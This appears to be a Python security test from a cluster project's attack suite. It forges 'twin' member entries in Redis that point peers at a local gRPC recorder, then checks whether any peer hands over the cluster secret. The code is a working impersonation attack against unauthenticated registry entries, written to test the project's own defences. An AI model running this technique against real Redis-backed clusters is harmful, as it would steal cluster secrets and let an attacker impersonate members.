"""A client that may write to Redis registers itself as a member, and waits for peers to send it the
cluster secret."""

import json
import re
from typing import Any

import grpc
import grpc.aio
import redis.asyncio

from tests.attacks.target import AttackTarget

FINDING = "3: Redis is trusted: peers send the cluster secret to any member registered there"


class _CallRecorder(grpc.GenericRpcHandler):
    """Refuses every call, and records its metadata."""

    def __init__(self, target: AttackTarget) -> None:
        self._target = target

    def service(self, details: grpc.HandlerCallDetails) -> Any:
        self._target.outcomes["calls"] += 1
        for key, value in details.invocation_metadata or ():
            text = value if isinstance(value, str) else value.decode("latin-1")
            if self._target.cluster_secret in text:
                self._target.record_violation(
                    f"a peer sent the secret in {key} of {details.method}"
                )
        return None


async def attack(target: AttackTarget) -> None:
    """Register copies of real members under other names, at an address of the attacker."""
    server = grpc.aio.server(handlers=[_CallRecorder(target)])
    port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    registry = redis.asyncio.Redis.from_url(target.redis_url)
    try:
        while not target.is_over:
            for key in await registry.keys("baton:*:member:*"):
                await _copy(registry, key, f"127.0.0.1:{port}")
            await target.sleep(1.0)
    finally:
        await _remove(registry)
        await registry.aclose()
        await server.stop(None)


async def _copy(registry: Any, key: Any, address: str) -> None:
    """Register a copy of a member, without its framed-connection address. This is possible without
    the secret with which members sign their entries."""
    value = await registry.get(key)
    prefix, _, name = key.decode().rpartition(":")
    found = re.search(rb"\{.*\}", value or b"", re.DOTALL)
    if found is None or name.startswith("twin-"):
        return
    try:
        member = json.loads(found[0])
    except ValueError:
        return
    if "role" not in member:
        return
    twin = member | {
        "id": f"twin-{name}",
        "address": address,
        "framed_address": "",
        "state": "ready",
    }
    await registry.set(f"{prefix}:twin-{name}", json.dumps(twin), px=3000)
    await registry.sadd(prefix.removesuffix(":member") + ":members", f"twin-{name}")


async def _remove(registry: Any) -> None:
    for key in await registry.keys("baton:*:member:twin-*"):
        prefix, _, name = key.decode().rpartition(":")
        await registry.delete(key)
        await registry.srem(prefix.removesuffix(":member") + ":members", name)
